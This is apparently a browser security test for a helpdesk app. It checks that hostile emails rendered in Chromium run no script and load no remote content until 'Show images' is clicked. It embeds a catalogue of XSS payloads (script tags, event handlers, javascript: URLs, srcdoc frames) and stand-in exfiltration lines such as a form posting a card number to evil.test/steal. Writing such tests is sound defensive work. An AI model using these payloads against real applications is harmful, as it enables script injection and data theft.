"""Hostile mail opened in Chromium: nothing executes, and nothing is fetched from elsewhere until "Show images".

Payloads sit in HTML bodies (stored unsanitised here, the worst case: the iframe's sandbox and CSP must hold
on their own), plain-text bodies, subjects, display names and filenames. Every payload that could run calls
alert() and console.log("PWNED-..."); the page records dialogs, console lines, popups and every request,
answering requests for other hosts itself so none leaves the machine.
"""

import email
import email.policy
from pathlib import Path
from urllib.parse import urlparse

import pytest
from playwright.sync_api import expect

from tests import corpus
from tests.tickets import factories as f
from tickets.models import MessageKind

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


def js(tag: str) -> str:
    return f"console.log('PWNED-{tag}');alert('PWNED-{tag}')"


HOSTILE_HTML = f"""
<p>Dear support,</p>
<script>{js("script")}</script>
<img src="x" onerror="{js("onerror")}">
<a href="javascript:{js("js-url")}">click me</a>
<a href="http://evil.test/landing">a normal link</a>
<svg onload="{js("svg")}"><script>{js("svg-script")}</script><image href="http://evil.test/svg.png"/></svg>
<math><mtext><img src=x onerror="{js("math")}"></mtext></math>
<form action="http://evil.test/steal" method="post"><input name="card" value="4111"><button>Send</button></form>
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<base href="http://evil.test/">
<link rel="stylesheet" href="http://evil.test/link.css">
<style>@import url(http://evil.test/import.css); body {{ background: url(http://evil.test/style-bg.png) }}</style>
<div style="background-image: url('http://evil.test/inline-bg.png'); width: 10px; height: 10px">css</div>
<div style="width: expression(alert('PWNED-expression'))">ie</div>
<iframe src="http://evil.test/frame"></iframe>
<iframe srcdoc="<script>{js("srcdoc")}</script>"></iframe>
<object data="http://evil.test/object.swf"></object>
<embed src="http://evil.test/embed.swf">
<video src="http://evil.test/video.mp4" autoplay></video>
<audio src="http://evil.test/audio.mp3" autoplay></audio>
<img srcset="http://evil.test/srcset.png 1x">
<picture><source srcset="http://evil.test/picture.png"><img alt="pic"></picture>
<table background="http://evil.test/table-bg.png"><tr><td>cell</td></tr></table>
<input type="image" src="http://evil.test/input.png">
<details open ontoggle="{js("ontoggle")}"><summary>more</summary></details>
<body onload="{js("body-onload")}">
<img src="https://tracker.test/open.gif" width="1" height="1">
<img src="//tracker.test/protocol-relative.gif">
<p>Regards</p>
"""
HOSTILE_SUBJECT = f"""<img src=x onerror="{js("subject")}"><script>{js("subject-script")}</script> Refund"""
HOSTILE_NAME = f"""<script>{js("name")}</script>"Mallory" <svg onload={js("name-svg")}>"""
HOSTILE_FILENAME = f"""\"><img src=x onerror="{js("filename")}">.pdf"""
HOSTILE_TEXT = (
    f"""Plain text with <script>{js("text")}</script> and javascript:{js("text-url")} and <b>tags</b>"""
)


class Watch:
    """Everything the browser did that the test cares about."""

    def __init__(self, page, live_server_url: str):
        self.dialogs: list[str] = []
        self.console: list[str] = []
        self.remote: list[str] = []
        self.popups: list[str] = []
        self.local_host = urlparse(live_server_url).hostname
        page.on("dialog", self._dialog)
        page.on("console", lambda msg: self.console.append(msg.text))
        page.on("pageerror", lambda exc: self.console.append(f"pageerror: {exc}"))
        page.context.on("page", lambda p: self.popups.append(p.url))
        page.context.route("**/*", self._route)

    def _dialog(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _route(self, route):
        url = route.request.url
        if urlparse(url).hostname in (self.local_host, "localhost", "127.0.0.1"):
            route.continue_()
            return
        self.remote.append(url)
        if url.endswith((".gif", ".png")):
            route.fulfill(status=200, content_type="image/gif", body=GIF)
        else:
            route.abort()

    @property
    def executed(self) -> list[str]:
        return self.dialogs + [line for line in self.console if "PWNED" in line]


def open_and_settle(page, url: str) -> None:
    page.goto(url)
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(300)  # meta refresh, autoplay and lazy handlers get their chance


def hostile_ticket(tenant, admin):
    box = f.mailbox(tenant, "SUP")
    mallory = f.contact(tenant, "mallory@evil.test", HOSTILE_NAME)
    t = f.ticket(tenant, HOSTILE_SUBJECT, requester=mallory, mailbox=box, body=None, html=HOSTILE_HTML)
    first = t.messages.get()
    Message = type(first)
    Message.objects.filter(pk=first.pk).update(from_name=HOSTILE_NAME, subject=HOSTILE_SUBJECT)
    f.attachment(first, HOSTILE_FILENAME, b"%PDF-1.4", "application/pdf")
    f.attachment(
        first,
        "icon.svg",
        f'<svg onload="{js("svg-file")}"/>'.encode(),
        "image/svg+xml",
        content_id="icon",
        inline=True,
    )
    f.message(t, text=HOSTILE_TEXT, subject=HOSTILE_SUBJECT, from_name=HOSTILE_NAME)
    f.message(t, kind=MessageKind.NOTE, text=HOSTILE_TEXT, author=admin)
    return t


def test_hostile_mail_runs_nothing_and_loads_nothing_remote_until_show_images(
    sign_in, live_server, tenant, admin, screenshot
):
    t = hostile_ticket(tenant, admin)
    page = sign_in(admin)
    watch = Watch(page, live_server.url)
    for path in ("/acme/views/all/", f"/acme/contacts/{t.requester_id}/", "/acme/views/all/?q=Refund"):
        open_and_settle(page, live_server.url + path)
    open_and_settle(page, f"{live_server.url}/acme/tickets/{t.number}/")
    expect(page.locator("[data-message]")).to_have_count(3)
    # The payloads are shown as text where they are text.
    expect(page.locator(".file-name")).to_have_text(HOSTILE_FILENAME)
    assert page.locator(".title-input").input_value() == HOSTILE_SUBJECT
    assert watch.executed == [], watch.executed
    assert watch.remote == [], watch.remote
    # Clicks inside the message do nothing either.
    frame = page.frame_locator("iframe.msg-frame").first
    frame.get_by_text("click me").click(timeout=5000)
    frame.get_by_text("more").click(timeout=5000)
    page.wait_for_timeout(300)
    assert watch.executed == [], watch.executed
    assert watch.remote == [], watch.remote
    assert watch.popups == []
    assert all(
        urlparse(fr.url).hostname in ("127.0.0.1", "localhost") or fr.url == "about:blank"
        for fr in page.frames
    )
    screenshot(page, "hostile-blocked")

    page.get_by_role("link", name="Show images").click()
    for _ in range(50):
        if len(watch.remote) >= 2:
            break
        page.wait_for_timeout(100)
    page.wait_for_load_state("networkidle")
    loaded = {urlparse(u).path for u in watch.remote}
    assert {"/open.gif", "/protocol-relative.gif"} <= loaded
    # Only images were fetched: no frames, styles, media, forms or navigation.
    assert all(u.endswith((".gif", ".png")) for u in watch.remote), watch.remote
    assert watch.executed == [], watch.executed
    assert watch.popups == []
    screenshot(page, "hostile-images-shown")


def _html_of(path: Path) -> str:
    message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
    part = message.get_body(preferencelist=("html",))
    if part is None:
        return ""
    try:
        return part.get_content()
    except (LookupError, ValueError):
        return part.get_payload(decode=True).decode("latin-1")


def test_corpus_mail_with_scripts_and_tracking_pixels_is_inert(sign_in, live_server, tenant, admin):
    rows = corpus.tagged("html-script", "tracking-pixel")
    corpus.require_corpus(rows[0]["path"] if rows else None)
    paths = [corpus.CORPUS / row["path"] for row in rows]
    tickets = []
    for path in paths:
        html = _html_of(path)
        if html:
            tickets.append((path.name, f.ticket(tenant, path.name, body=None, html=html, reindex=False)))
    assert len(tickets) >= 4
    page = sign_in(admin)
    watch = Watch(page, live_server.url)
    for name, t in tickets:
        open_and_settle(page, f"{live_server.url}/acme/tickets/{t.number}/")
        assert watch.executed == [], (name, watch.executed)
        assert watch.remote == [], (name, watch.remote[:5])
    # Tracking pixels do load once asked for, so blocking was real and not a broken message.
    with_pixels = [
        t
        for name, t in tickets
        if "Show images" in page.context.request.get(f"{live_server.url}/acme/tickets/{t.number}/").text()
    ]
    assert with_pixels
    open_and_settle(page, f"{live_server.url}/acme/tickets/{with_pixels[0].number}/")
    page.get_by_role("link", name="Show images").click()
    for _ in range(50):
        if watch.remote:
            break
        page.wait_for_timeout(100)
    assert watch.remote, "no remote image was requested after Show images"
    assert watch.executed == []
